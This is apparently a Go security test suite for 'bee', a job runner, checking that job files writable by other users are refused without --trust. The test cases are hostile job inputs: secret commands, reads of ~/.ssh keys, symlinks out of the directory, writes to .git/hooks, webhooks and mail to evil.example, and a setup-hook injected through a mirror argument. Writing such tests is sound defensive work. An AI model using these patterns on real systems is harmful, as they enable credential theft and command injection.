package hostile

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bee-hpc/bee/internal/testkit"
	v1 "github.com/google/go-containerregistry/pkg/v1"
)

// TestAStrangersBeefile: one that others may write leaves its directory only with a yes.
func TestAStrangersBeefile(t *testing.T) {
	b := testkit.NewBee(t)
	dir := filepath.Join(b.Work, "theirs")
	if err := os.MkdirAll(filepath.Join(dir, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	key := b.File("../.ssh/id", "a key\n")
	b.File("theirs/beside/f", "beside\n")
	for link, to := range map[string]string{"keys": filepath.Dir(key), "data/here": ".", "data/beside": "../beside", "data/key": key} {
		if err := os.Symlink(to, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	archive, err := os.ReadFile(testkit.Busybox(t, v1.Config{Env: []string{"PATH=/bin:/usr/bin"}}))
	if err != nil {
		t.Fatal(err)
	}
	b.File("theirs/image.tar", string(archive))
	ran := filepath.Join(b.Dir, "ran")
	for name, c := range map[string]struct {
		lines string
		asked bool
	}{
		"in its directory": {lines: "inputs: [{from: data, to: /in}]\noutputs: [{from: /work/x, to: results}]"},
		"a command":        {lines: "secrets: {A: {exec: 'touch " + ran + "; echo x'}}", asked: true},
		"another job":      {lines: "name: one\n---\nname: two\nimage: docker-archive:./image.tar\nrun: echo it runs\nsecrets: {A: {exec: 'touch " + ran + "; echo x'}}", asked: true},
		"a file":           {lines: "secrets: {A: {file: ~/.ssh/id}}", asked: true},
		"a variable":       {lines: "secrets: {A: {env: HOME}}", asked: true},
		"an input":         {lines: "inputs: [{from: ../../.ssh, to: /in}]", asked: true},
		"a link":           {lines: "inputs: [{from: keys, to: /in}]", asked: true},
		"a remote input":   {lines: "inputs: [{from: 's3://bucket/key', to: /in}]", asked: true},
		"a remote output":  {lines: "outputs: [{from: /work/x, to: 's3://bucket/key'}]", asked: true},
		"an output":        {lines: "outputs: [{from: /work/x, to: ../../.ssh}]", asked: true},
		"a hidden output":  {lines: "outputs: [{from: /work/x, to: .git/hooks}]", asked: true},
		"a notification":   {lines: "notify: [{webhook: 'https://evil.example/x'}]", asked: true},
		"a mail":           {lines: "notify: [{mail: eve@evil.example}]", asked: true},
		"a notifier":       {lines: "notify: [{command: 'touch " + ran + "'}]", asked: true},
		"a store":          {lines: "checkpoint: {}\nstore: evil.example:x", asked: true},
	} {
		t.Run(name, func(t *testing.T) {
			job := b.File("theirs/job.yaml", "image: docker-archive:./image.tar\nworkdir: /work\nrun: 'echo it runs; echo x >x'\n"+c.lines+"\n")
			if err := os.Chmod(job, 0o666); err != nil {
				t.Fatal(err)
			}
			r := b.Try("run", "-q", job)
			if asked := strings.Contains(r.Stderr, "--trust"); asked != c.asked || (r.Code == 0) == c.asked {
				t.Errorf("asked is %v, want %v: %+v", asked, c.asked, r)
			}
			if _, err := os.Stat(ran); err == nil {
				t.Error("its command ran")
			}
			if c.asked && strings.Contains(r.Stdout, "it runs") {
				t.Error("its job ran")
			}
		})
	}
	sends := b.File("theirs/sends.yaml", "image: docker-archive:./image.tar\nrun: x\nvolume: {kind: burst, remote: s3://bucket/x, credentials: send}\n")
	if err := os.Chmod(sends, 0o666); err != nil {
		t.Fatal(err)
	}
	if r := b.Try("run", "-q", sends); r.Code == 0 || !strings.Contains(r.Stderr, "--trust") || !strings.Contains(r.Stderr, "volume.credentials") {
		t.Errorf("credentials for a bucket: %+v", r)
	}
	links := "image: docker-archive:./image.tar\nrun: 'cat /in/beside/f; readlink /in/beside; readlink /in/key; cat /in/key; true'\ninputs: [{from: data, to: /in}]\n"
	for mode, printed := range map[os.FileMode]string{0o666: "../beside\n" + key + "\n", 0o644: "beside\n" + key + "\n"} {
		job := b.File("theirs/links.yaml", links)
		if err := os.Chmod(job, mode); err != nil {
			t.Fatal(err)
		}
		if r := b.Try("run", job); r.Code != 0 || r.Stdout != printed || !strings.Contains(r.Stderr, "data/key -> "+key) {
			t.Errorf("links out of an input, mode %o: %+v", mode, r)
		}
	}
	job := b.File("theirs/job.yaml", "image: docker-archive:./image.tar\nrun: 'cat /in/id'\ninputs: [{from: keys, to: /in}]\n")
	if r := b.Try("run", "-q", "--trust", job); r.Code != 0 || !strings.Contains(r.Stdout, "a key") {
		t.Errorf("with --trust: %+v", r)
	}
	if err := os.Chmod(job, 0o644); err != nil {
		t.Fatal(err)
	}
	if r := b.Try("run", job); r.Code != 0 || !strings.Contains(r.Stderr, "inputs[0].from reads") {
		t.Errorf("the user's own file: %+v", r)
	}
	if r := b.Try("run", "-q", job); r.Code != 0 || r.Stderr != "" {
		t.Errorf("the user's own file, quietly: %+v", r)
	}
}

// TestAStrangersBuild: the image of another user's Beefile takes nothing from elsewhere.
func TestAStrangersBuild(t *testing.T) {
	b := testkit.NewBee(t)
	b.File("../.ssh/Dockerfile", "FROM scratch\n")
	job := b.File("theirs/job.yaml", "build: ../../.ssh\nrun: x\n")
	if err := os.Chmod(job, 0o666); err != nil {
		t.Fatal(err)
	}
	if r := b.Try("image", "build", job); r.Code == 0 || !strings.Contains(r.Stderr, "--trust") {
		t.Errorf("%+v", r)
	}
	secret := b.File("../secret.tar", "")
	for _, text := range []string{"FROM docker-archive:" + secret + "\n", "FROM scratch\n\nCOPY --from=dir:" + filepath.Dir(secret) + " / /\n"} {
		b.File("theirs/context/Dockerfile", text)
		job := b.File("theirs/from.yaml", "build: context\nrun: x\n")
		if err := os.Chmod(job, 0o666); err != nil {
			t.Fatal(err)
		}
		for _, command := range [][]string{{"image", "build", job}, {"run", job}} {
			if r := b.Try(command...); r.Code == 0 || !strings.Contains(r.Stderr, "--trust") || !strings.Contains(r.Stderr, fmt.Sprintf("in line %d ", strings.Count(text, "\n"))) {
				t.Errorf("%q: %+v", text, r)
			}
		}
	}
	ran := filepath.Join(b.Dir, "ran")
	job = b.File("theirs/debian.yaml", "build: {debian: bookworm, mirror: '--setup-hook=touch "+ran+"'}\nrun: x\n")
	if err := os.Chmod(job, 0o666); err != nil {
		t.Fatal(err)
	}
	for _, command := range [][]string{{"image", "build", job}, {"run", job}} {
		if r := b.Try(command...); r.Code == 0 {
			t.Errorf("%+v", r)
		}
		if _, err := os.Stat(ran); err == nil {
			t.Errorf("%s ran a command", command)
		}
	}
}
